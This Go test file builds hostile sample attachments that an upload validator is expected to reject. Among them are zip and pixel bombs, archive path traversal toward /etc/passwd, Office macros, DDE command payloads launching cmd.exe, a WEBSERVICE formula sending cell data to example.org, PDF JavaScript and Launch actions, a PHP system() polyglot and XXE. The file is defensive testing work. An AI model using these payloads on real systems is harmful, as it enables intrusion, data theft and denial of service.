package attachment_test

import (
	"archive/zip"
	"bytes"
	"fmt"
	"io"
	"slices"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// badFiles are files of 14 classes; none must be taken, each for its own reason.
func badFiles(t testing.TB) []sample {
	return slices.Concat(typeLies(t), disguises(t), macros(t), bombs(t), pixelBombs(t), traversals(t), truncations(t), oversize(),
		viruses(t), polyglots(t), nests(t), activePDF(), outsideLinks(t), locked(t), badText())
}

func typeLies(t testing.TB) []sample {
	png, pdf := pngOf(t, picture("rgb", 9, 9)), pdfPage("", "")
	return []sample{
		{"type lie", "程序.pdf", cat("MZ\x90\x00\x03", strings.Repeat("\x00", 200)), "executable"},
		{"type lie", "程序.png", cat("\x7fELF\x02\x01\x01", strings.Repeat("\x00", 200)), "executable"},
		{"type lie", "脚本.json", []byte("#!/bin/sh\necho {}\n"), "executable"},
		{"type lie", "图片.pdf", png, "content_differs"},
		{"type lie", "图片.jpg", png, "content_differs"},
		{"type lie", "文档.png", pdf, "content_differs"},
		{"type lie", "文档.docx", pdf, "content_differs"},
		{"type lie", "表格.docx", xlsxOf(t, nil), "content_differs"},
		{"type lie", "文档.xlsx", docxOf(t, "", ""), "content_differs"},
		{"type lie", "压缩包.xlsx", zipOf(t, entry{"a.txt", "a"}), "content_differs"},
		{"type lie", "压缩包.ofd", zipOf(t, entry{"a.txt", "a"}), "content_differs"},
		{"type lie", "文字.pdf", []byte("这不是 PDF"), "content_differs"},
		{"type lie", "模板.docx", rezip(t, docxOf(t, "", ""), map[string]string{"[Content_Types].xml": strings.Replace(
			entryOf(t, docxOf(t, "", ""), "[Content_Types].xml"), "document.main", "template.main", 1)}), "content_differs"},
		{"type lie", "程序.exe", []byte("MZ"), "format"},
		{"type lie", "请示.pdf.js", []byte("x"), "format"},
		{"type lie", "没有扩展名", pdf, "format"},
	}
}

func disguises(t testing.TB) []sample {
	page := "<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
	svg := `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`
	return []sample{
		{"markup", "网页.pdf", []byte(page), "content_differs"},
		{"markup", "网页.json", []byte(page), "content_differs"},
		{"markup", "网页.kml", []byte(page), "content_differs"},
		{"markup", "图形.png", []byte(svg), "content_differs"},
		{"markup", "图形.kml", []byte(svg), "content_differs"},
		{"markup", "图形二.kml", []byte(xmlHead + "<!-- map -->" + svg), "content_differs"},
		{"markup", "网页.zip", zipOf(t, entry{"说明.txt", page}), "content_differs"},
		{"markup", "脚本.zip", zipOf(t, entry{"说明.html", page}), "archive_member"},
		{"markup", "含脚本.kml", []byte(xmlHead + kmlHead + "<script/></Document></kml>"), "external_link"},
	}
}

func macros(t testing.TB) []sample {
	doc, table := docxOf(t, "", ""), xlsxOf(t, nil)
	types := entryOf(t, table, "[Content_Types].xml")
	return []sample{
		{"macro", "宏.docx", rezip(t, doc, map[string]string{"word/vbaProject.bin": "x"}), "macros"},
		{"macro", "宏.xlsx", rezip(t, table, map[string]string{"xl/VBAPROJECT.BIN": "x"}), "macros"},
		{"macro", "换名.xlsx", rezip(t, table, map[string]string{"xl/data.bin": "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}), "embedded"},
		{"macro", "类型.xlsx", rezip(t, table, map[string]string{"[Content_Types].xml": strings.Replace(types, "openxmlformats-officedocument.spreadsheetml.sheet.main", "ms-excel.sheet.macroEnabled.main", 1)}), "macros"},
		{"macro", "四代宏.xlsx", rezip(t, table, map[string]string{"xl/macrosheets/sheet1.xml": "<a/>"}), "macros"},
		{"macro", "控件.docx", rezip(t, doc, map[string]string{"word/activeX/activeX1.xml": "<a/>"}), "macros"},
		{"macro", "关系.docx", docxOf(t, "", `<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="media/p.bin"/>`), "macros"},
		{"macro", "自动.xlsx", rezip(t, table, map[string]string{"xl/workbook.xml": strings.Replace(entryOf(t, table, "xl/workbook.xml"), "</workbook>",
			`<definedNames><definedName name="_xlnm.Auto_Open">Sheet1!$A$1</definedName></definedNames></workbook>`, 1)}), "macros"},
		{"macro", "宏文件.docm", doc, "format"},
		{"macro", "宏文件.xlsm", table, "format"},
		{"macro", "包内.zip", zipOf(t, entry{"宏.docm", string(doc)}), "nested"},
		{"macro", "对象.docx", rezip(t, doc, map[string]string{"word/embeddings/oleObject1.bin": "x"}), "embedded"},
		{"macro", "程序.docx", rezip(t, doc, map[string]string{"word/media/image1.png": "MZ\x90\x00"}), "executable"},
	}
}

func bombs(t testing.TB) []sample {
	base := []entry{{"[Content_Types].xml", entryOf(t, docxOf(t, "", ""), "[Content_Types].xml")}, {"_rels/.rels", "<Relationships/>"}}
	overlap := zipOf(t, entry{"a.txt", strings.Repeat("a", 100)}, entry{"b.txt", strings.Repeat("b", 100)})
	return []sample{
		{"zip bomb", "零.zip", zipZeros(t, "a.txt", 64<<20), "bomb"},
		{"zip bomb", "零.docx", zipZeros(t, "word/document.xml", 64<<20, base...), "bomb"},
		{"zip bomb", "一词.docx", zipZeros(t, "word/document.xml", 20<<20, append(base, entry{"word/media/image1.png", noise(1 << 20)})...), "bomb"},
		{"zip bomb", "零.xlsx", rezip(t, xlsxOf(t, nil), map[string]string{"xl/media/image1.png": strings.Repeat("\x00", 40<<20)}), "bomb"},
		{"zip bomb", "多项.zip", manyEntries(t, 10_001), "archive_entries"},
		{"zip bomb", "假计数.zip", lyingCount(manyEntries(t, 10_001)), "archive_entries"},
		{"zip bomb", "重叠.zip", overlapping(overlap), "bomb"},
		{"zip bomb", "流.pdf", pdfPage("", "", streamObject("/Filter /FlateDecode ", deflated(strings.Repeat(" ", 64<<20)))), "bomb"},
	}
}

// noise does not compress.
func noise(n int) string {
	b := make([]byte, n)
	x := uint32(1)
	for i := range b {
		x = x*1664525 + 1013904223
		b[i] = byte(x >> 24)
	}
	return string(b)
}

func manyEntries(t testing.TB, n int) []byte {
	t.Helper()
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for i := range n {
		if _, err := w.CreateHeader(&zip.FileHeader{Name: fmt.Sprintf("%d.txt", i)}); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// lyingCount lets the end of a directory speak of three entries.
func lyingCount(content []byte) []byte {
	i := len(content) - 22
	content[i+8], content[i+9], content[i+10], content[i+11] = 3, 0, 3, 0
	return content
}

// overlapping points the second entry of a directory at the first one's bytes.
func overlapping(content []byte) []byte {
	second := bytes.LastIndex(content, []byte("PK\x01\x02"))
	copy(content[second+42:], "\x00\x00\x00\x00a.txt")
	return content
}

func pixelBombs(t testing.TB) []sample {
	small, photo := pngOf(t, picture("grey", 9, 9)), jpegOf(t, picture("grey", 9, 9), 80)
	return []sample{
		{"pixel bomb", "大图.png", resized(small, 60_000, 60_000), "pixels"},
		{"pixel bomb", "长条.png", resized(small, 2_000_000, 1), "pixels"},
		{"pixel bomb", "亿像素.png", resized(small, 20_000, 20_000), "pixels"},
		{"pixel bomb", "大图.jpg", resizedJPEG(photo, 65_500, 65_500), "pixels"},
		{"pixel bomb", "无边.png", resized(small, 0, 9), "damaged"},
		{"pixel bomb", "包内大图.zip", zipOf(t, entry{"大图.png", string(resized(small, 60_000, 60_000))}), "pixels"},
	}
}

func traversals(t testing.TB) []sample {
	var out []sample
	for i, name := range []string{"../../etc/passwd.txt", "/etc/passwd.txt", `..\..\windows\a.txt`, `C:\a.txt`, "a/../../b.txt", "a//b.txt", "./a.txt", "a\u202etxt.txt", "a\x00.txt"} {
		out = append(out, sample{"traversal", fmt.Sprintf("路径%d.zip", i), zipOf(t, entry{name, "a"}), "archive_names"})
	}
	link := &zip.FileHeader{Name: "链接.txt"}
	link.SetMode(0o777 | 1<<27)
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	f, err := w.CreateHeader(link)
	if err == nil {
		_, err = io.WriteString(f, "/etc/passwd")
	}
	if err != nil || w.Close() != nil {
		t.Fatal(err)
	}
	hidden := zipOf(t, entry{"good.txt", "a"})
	copy(hidden[30:], "evil.txt") // only the directory still says good
	return append(out,
		sample{"traversal", "符号链接.zip", b.Bytes(), "archive_names"},
		sample{"traversal", "重名.zip", zipOf(t, entry{"a.txt", "a"}, entry{"A.TXT", "b"}), "archive_names"},
		sample{"traversal", "两面.zip", hidden, "archive_names"},
		sample{"traversal", "../请示.pdf", pdfPage("", ""), "name_character"},
		sample{"traversal", `..\请示.pdf`, pdfPage("", ""), "name_character"},
		sample{"traversal", "请示\u202efdp.pdf", pdfPage("", ""), "name_character"},
		sample{"traversal", "请示\x00.pdf", pdfPage("", ""), "name_character"},
		sample{"traversal", "请示\xff.pdf", pdfPage("", ""), "name_unreadable"},
		sample{"traversal", ".pdf", pdfPage("", ""), "name_empty"},
		sample{"traversal", "con.pdf", pdfPage("", ""), "name_reserved"},
		sample{"traversal", strings.Repeat("长", 120) + ".pdf", pdfPage("", ""), "name_long"},
	)
}

func truncations(t testing.TB) []sample {
	cut := func(content []byte, part float64) []byte { return content[:int(float64(len(content))*part)] }
	png, photo := pngOf(t, picture("rgb", 99, 99)), jpegOf(t, picture("rgb", 99, 99), 80)
	flipped := slices.Clone(png)
	flipped[len(flipped)/2] ^= 1
	bad := slices.Clone(docxOf(t, "", "", entry{"word/media/image1.png", noise(999)}))
	bad[bytes.LastIndex(bad, []byte("word/document.xml"))-300] ^= 0xff
	wrong := bytes.Replace(pdfPage("", ""), []byte("startxref\n"), []byte("startxref\n9"), 1)
	return []sample{
		{"truncated", "半.pdf", cut(pdfPage("", ""), .9), "damaged"},
		{"truncated", "错表.pdf", wrong, "damaged"},
		{"truncated", "半.png", cut(png, .7), "damaged"},
		{"truncated", "无尾.png", png[:len(png)-12], "damaged"},
		{"truncated", "翻位.png", flipped, "damaged"},
		{"truncated", "半.jpg", cut(photo, .7), "damaged"},
		{"truncated", "无尾.jpg", photo[:len(photo)-2], "damaged"},
		{"truncated", "半.docx", cut(docxOf(t, "", ""), .8), "damaged"},
		{"truncated", "半.xlsx", cut(xlsxOf(t, nil), .5), "damaged"},
		{"truncated", "半.zip", cut(zipOf(t, entry{"a.txt", noise(200)}), .9), "damaged"},
		{"truncated", "坏块.zip", corrupted(zipOf(t, entry{"a.txt", strings.Repeat("abcdefgh", 50)})), "damaged"},
		{"truncated", "半.geojson", cut([]byte(polygon), .8), "damaged"},
		{"truncated", "半.kml", []byte(xmlHead + kmlHead + "<name>x</name>"), "damaged"},
	}
}

// corrupted changes a byte of the first entry's content.
func corrupted(content []byte) []byte {
	content[30+len("a.txt")+4] ^= 0x55
	return content
}

func oversize() []sample {
	return []sample{
		{"oversize", "过大.pdf", make([]byte, slotLimit+1), "too_large"},
		{"oversize", "空.pdf", nil, "empty"},
		{"oversize", "过大.geojson", []byte(`{"type":"Point","coordinates":[1,2],"x":"` + strings.Repeat("x", 16<<20) + `"}`), "text_large"},
	}
}

func viruses(t testing.TB) []sample {
	virus := testVirus()
	return []sample{
		{"virus", "测试.pdf", []byte(virus), "infected"},
		{"virus", "夹带.pdf", pdfPage("/X ("+virus+") ", ""), "infected"},
		{"virus", "压缩.pdf", pdfPage("", "", streamObject("/Filter /FlateDecode ", deflated(strings.Repeat(" ", 70_000)+virus))), "infected"},
		{"virus", "包内.zip", zipOf(t, entry{"测试.txt", strings.Repeat(virus+"\n", 3)}), "infected"},
		{"virus", "包内.docx", docxOf(t, "", "", entry{"word/media/image1.png", strings.Repeat("A", 40_000) + virus}), "infected"},
		{"virus", "注释.png", pngText(pngOf(t, picture("grey", 9, 9)), virus), "infected"},
	}
}

func polyglots(t testing.TB) []sample {
	png, photo, pdf := pngOf(t, picture("rgb", 9, 9)), jpegOf(t, picture("rgb", 9, 9), 80), pdfPage("", "")
	archive := zipOf(t, entry{"a.txt", "a"})
	return []sample{
		{"polyglot", "图加包.png", cat(png, archive), "trailing_data"},
		{"polyglot", "图加包.jpg", cat(photo, archive), "polyglot"},
		{"polyglot", "图加网页.jpg", cat(photo, "<script>alert(1)</script>"), "polyglot"},
		{"polyglot", "注释网页.jpg", segment(photo, 0xfe, "<HTML><body onload=alert(1)>"), "polyglot"},
		{"polyglot", "注释脚本.png", pngText(png, "c\x00<?php system('id'); ?>"), "polyglot"},
		{"polyglot", "注释文档.jpg", segment(photo, 0xfe, "%PDF-1.4 obj"), "content_differs"},
		{"polyglot", "文档加包.pdf", cat(pdf, archive), "trailing_data"},
		{"polyglot", "前置.pdf", cat("GIF89a\n", pdf), "content_differs"},
		{"polyglot", "包前有物.zip", cat("PK\x03\x04 junk", archive), "damaged"},
		{"polyglot", "包后有物.docx", cat(docxOf(t, "", ""), "junk"), "trailing_data"},
		{"polyglot", "兼为文档.docx", pdfInDocx(t), "polyglot"},
		{"polyglot", "数据加网页.json", cat(polygon, "<script>alert(1)</script>"), "trailing_data"},
		{"polyglot", "两段.kml", []byte(kmlHead + "</Document></kml><svg/>"), "trailing_data"},
	}
}

// pdfInDocx is a document whose first part, not compressed, begins as a PDF.
func pdfInDocx(t testing.TB) []byte {
	t.Helper()
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	f, err := w.CreateHeader(&zip.FileHeader{Name: "word/media/image1.png", Method: zip.Store})
	if err == nil {
		_, err = f.Write(pdfPage("", ""))
	}
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"[Content_Types].xml", "_rels/.rels", "word/document.xml"} {
		f, err := w.Create(name)
		if err == nil {
			_, err = io.WriteString(f, entryOf(t, docxOf(t, "", ""), name))
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func nests(t testing.TB) []sample {
	inner := string(zipOf(t, entry{"a.txt", "a"}))
	deep := docxOf(t, "", "")
	for range 3 {
		deep = docxOf(t, "", "", entry{"word/embeddings/inner.docx", string(deep)})
	}
	return []sample{
		{"nested", "套娃.zip", zipOf(t, entry{"内.zip", inner}), "nested"},
		{"nested", "改名套娃.zip", zipOf(t, entry{"内.txt", inner}), "nested"},
		{"nested", "分卷.zip", zipOf(t, entry{"内.rar", "Rar!\x1a\x07"}), "nested"},
		{"nested", "压缩文本.zip", zipOf(t, entry{"内.csv", "\x1f\x8b\x08"}), "nested"},
		{"nested", "图中包.docx", docxOf(t, "", "", entry{"word/media/image1.png", inner}), "nested"},
		{"nested", "四层.docx", deep, "nested"},
		{"nested", "空.zip", zipOf(t), "archive_empty"},
		{"nested", "只有目录.zip", zipOf(t, entry{"一/", ""}), "archive_empty"},
		{"nested", "程序.zip", zipOf(t, entry{"a.pdf.lnk", "x"}), "archive_member"},
		{"nested", "坏文档.zip", zipOf(t, entry{"a.pdf", string(pdfPage("/OpenAction << /S /JavaScript /JS (app.alert(1)) >> ", ""))}), "pdf_active"},
	}
}

func activePDF() []sample {
	script := "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
	return []sample{
		{"active pdf", "脚本.pdf", pdfPage("/OpenAction "+script+" ", ""), "pdf_active"},
		{"active pdf", "编码.pdf", pdfPage("/OpenAction << /S /J#61vaScript /J#53 (x) >> ", ""), "pdf_active"},
		{"active pdf", "间接.pdf", pdfPage("/OpenAction << /S 5 0 R /JS (x) >> ", "", "/Java#53cript"), "pdf_active"},
		{"active pdf", "压缩对象.pdf", pdfPage("/OpenAction 9 0 R ", "", objectStream(script)), "pdf_active"},
		{"active pdf", "压缩短名.pdf", pdfPage("/OpenAction 9 0 R ", "", objectStream("<</S/R/JS(x)>>")), "pdf_active"},
		{"active pdf", "未压缩对象.pdf", pdfPage("", "", streamObject("/Type /ObjStm /N 1 /First 4 ", []byte("9 0 << /JS (x) >>"))), "pdf_active"},
		{"active pdf", "藏对象.pdf", pdfPage("", "", streamObject("/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode] ", []byte("789c>"))), "pdf_active"},
		{"active pdf", "假流.pdf", pdfPage("", "", streamObject("", []byte("9 0 obj "+script+" endobj"))), "pdf_active"},
		{"active pdf", "启动.pdf", pdfPage("", "/AA << /O << /S/Launch/F(calc.exe) >> >> "), "pdf_active"},
		{"active pdf", "括号.pdf", pdfPage("/Info (http) /OpenAction << /S/Launch /F (x) >> ", ""), "pdf_active"},
		{"active pdf", "夹带.pdf", pdfPage("/Names << /EmbeddedFiles 5 0 R >> ", "", "<< >>"), "pdf_embedded"},
		{"active pdf", "附件流.pdf", pdfPage("", "", streamObject("/Type /EmbeddedFile ", []byte("x"))), "pdf_embedded"},
		{"active pdf", "附注.pdf", pdfPage("", "/Annots [<< /Subtype /FileAttachment /FS << /EF << /F 4 0 R >> >> >>] "), "pdf_embedded"},
		{"active pdf", "表单.pdf", pdfPage("/AcroForm << /XFA 4 0 R >> ", ""), "pdf_active"},
		{"active pdf", "提交.pdf", pdfPage("", "/AA << /O << /S /SubmitForm /F (http://example.org) >> >> "), "pdf_active"},
	}
}

func outsideLinks(t testing.TB) []sample {
	table := xlsxOf(t, nil)
	formula := func(text string) []byte {
		return xlsxOf(t, func(f *excelize.File) error { return f.SetCellFormula("Sheet1", "A9", text) })
	}
	fields := func(parts ...string) string {
		runs := `<w:r><w:fldChar w:fldCharType="begin"/></w:r>`
		for _, p := range parts {
			runs += `<w:r><w:instrText xml:space="preserve">` + p + `</w:instrText></w:r>`
		}
		return runs + `<w:r><w:fldChar w:fldCharType="end"/></w:r>`
	}
	return []sample{
		{"outside", "外链.xlsx", rezip(t, table, map[string]string{"xl/externalLinks/externalLink1.xml": "<externalLink/>"}), "external_link"},
		{"outside", "动态.xlsx", formula("cmd|'/C calc'!A0"), "dde"},
		{"outside", "取网.xlsx", formula(`WEBSERVICE("http://example.org/"&A1)`), "dde"},
		{"outside", "调用.xlsx", formula(`call ("urlmon","x")`), "dde"},
		{"outside", "动态域.docx", docxOf(t, fields(` DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"`), ""), "dde"},
		{"outside", "拆分域.docx", docxOf(t, fields(" D", "D", "EAUTO x"), ""), "dde"},
		{"outside", "简单域.docx", docxOf(t, `<w:fldSimple w:instr=" DDE excel x"/>`, ""), "dde"},
		{"outside", "数字域.docx", docxOf(t, fields("QUOTE 68 68 69 65 85 84 79"), ""), "dde"},
		{"outside", "远程模板.docx", docxOf(t, "", rel("attachedTemplate", "http://example.org/t.dotm")), "external_link"},
		{"outside", "共享模板.docx", docxOf(t, "", rel("attachedTemplate", `file://\\host\t.dotm`)), "external_link"},
		{"outside", "远程图片.docx", docxOf(t, "", rel("image", "http://example.org/a.png")), "external_link"},
		{"outside", "协议.docx", docxOf(t, "", rel("hyperlink", "ms-msdt:/id PCWDiagnostic")), "external_link"},
		{"outside", "远程对象.docx", docxOf(t, "", rel("oleObject", "http://example.org/a.doc")), "embedded"},
		{"outside", "网络图层.kml", []byte(kmlHead + "<NetworkLink><Link><href>http://example.org</href></Link></NetworkLink></Document></kml>"), "external_link"},
		{"outside", "附件.ofd", zipOf(t, entry{"OFD.xml", `<OFD><Attachment/></OFD>`}), "embedded"},
	}
}

func locked(t testing.TB) []sample {
	ole := cat("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", strings.Repeat("\x00", 1000))
	flagged := zipOf(t, entry{"a.txt", "secret"})
	flagged[6] |= 1
	flagged[bytes.Index(flagged, []byte("PK\x01\x02"))+8] |= 1
	method := zipOf(t, entry{"a.txt", "abc"})
	method[8], method[bytes.Index(method, []byte("PK\x01\x02"))+10] = 14, 14
	return []sample{
		{"locked", "旧版.docx", ole, "old_office"},
		{"locked", "旧版.xlsx", ole, "old_office"},
		{"locked", "旧版.pdf", ole, "old_office"},
		{"locked", "密码.pdf", pdfOf("1.7", "/Encrypt 2 0 R ", "<< /Type /Catalog >>", "<< /Filter /Standard >>"), "encrypted"},
		{"locked", "密码.zip", flagged, "encrypted"},
		{"locked", "方法.zip", method, "archive_method"},
	}
}

func badText() []sample {
	laugh := `<!DOCTYPE kml [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]>` + kmlHead + `<name>&b;</name></Document></kml>`
	return []sample{
		{"text", "实体.kml", []byte(laugh), "xml_entities"},
		{"text", "外部实体.kml", []byte(xmlHead + `<!DOCTYPE kml SYSTEM "file:///etc/passwd">` + kmlHead + `</Document></kml>`), "xml_entities"},
		{"text", "过深.json", []byte(strings.Repeat("[", 9999) + strings.Repeat("]", 9999)), "too_deep"},
		{"text", "过深.kml", []byte(kmlHead + strings.Repeat("<Folder>", 99) + strings.Repeat("</Folder>", 99) + "</Document></kml>"), "too_deep"},
		{"text", "乱码.geojson", []byte("{\"type\":\"Point\",\"n\":\"\xff\xfe\"}"), "damaged"},
		{"text", "普通.geojson", []byte(`{"a":{"type":"Polygon"}}`), "not_geojson"},
		{"text", "标量.json", []byte(`"text"`), "content_differs"},
		{"text", "尾逗号.json", []byte(`{"type":"Point",}`), "damaged"},
	}
}
